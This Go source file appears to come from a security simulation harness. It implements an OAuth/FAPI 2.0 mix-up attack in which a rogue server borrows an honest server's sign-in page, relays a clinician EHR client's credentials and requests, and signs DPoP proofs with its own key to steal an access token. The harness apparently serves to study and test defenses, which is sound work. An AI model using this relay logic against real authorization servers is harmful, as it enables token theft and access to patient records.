package attacker

import (
	"context"
	"io"
	"net/http"
	"net/url"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

var _ = register("X-02", Technique{
	Title: "A dishonest server names the honest one's sign-in page as its own",
	Story: "The thief's regional server says in its metadata that people sign in at the honest server's page, but that codes go to his own address. A " +
		"clinician who picks it signs in as every day; what her EHR would carry to the honest server, it carries to him, and he passes it on in the " +
		"EHR's name.",
	Reads: []string{"FAPI 2.0 Attacker Model A1a", "RFC 9700 s4.4", "openid/fapi issue 78"},
	Evidence: "Metadata of one server that names hosts of another; at the honest server, requests of a known client from an address that is not its " +
		"own.",
	Needs: []event.Vantage{event.RogueAS},
	Run: func(ctx context.Context, g Ground) error {
		a, err := newApp(ctx, g, noCredentials)
		if err != nil {
			return err
		}
		ro := newRogue(g)
		relay := &relay{ctx: ctx, a: a}
		ro.meta.AuthorizationEndpoint = a.meta.AuthorizationEndpoint // the borrowed endpoint
		base := "https://" + g.Target().OwnHost
		ro.meta.PushedAuthorizationRequestEndpoint, ro.meta.TokenEndpoint = base+"/par", base+"/token"
		g.Serve(g.Target().OwnHost, relay)
		ro.open()
		if err := g.Lure(g.Target().ClientLogin + ro.meta.Issuer); err != nil {
			return err
		}
		if relay.got.AccessToken == "" {
			return ErrStopped
		}
		_, err = a.read(ctx, record(g, stranger(g)), relay.got)
		return err
	},
})

// relay passes on to the honest server what a client sends to the thief: its form and its credentials, with
// a proof by the thief's key where tokens are asked for. The client gets nothing for its pains.
type relay struct {
	ctx context.Context
	a   *app
	got fapi.TokenResponse
}

func (re *relay) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, err := io.ReadAll(r.Body)
	if err != nil {
		w.WriteHeader(http.StatusBadRequest)
		return
	}
	form, _ := url.ParseQuery(string(body))
	if form.Get("grant_type") == "" {
		ans, err := re.pass(re.a.meta.PushedAuthorizationRequestEndpoint, form, r.Header, false)
		if err != nil {
			ans.status = http.StatusBadGateway
		}
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(ans.status)
		_, _ = w.Write(ans.body)
		return
	}
	if ans, err := re.pass(re.a.meta.TokenEndpoint, form, r.Header, true); err == nil && ans.ok() {
		re.got, _ = readToken(ans)
	}
	writeJSON(w, http.StatusBadRequest, fapi.TokenResponse{Error: "invalid_grant"})
}

func (re *relay) pass(to string, form url.Values, header http.Header, prove bool) (answer, error) {
	return re.a.withNonce(to, func() (*http.Request, error) {
		onward := post(re.ctx, to, form)
		if basic := header.Get("Authorization"); basic != "" {
			onward.Header.Set("Authorization", basic)
		}
		if !prove || header.Get("DPoP") == "" {
			return onward, nil
		}
		proof, err := re.a.proof(http.MethodPost, to, "").Sign(re.a.key)
		onward.Header.Set("DPoP", proof)
		return onward, err
	})
}
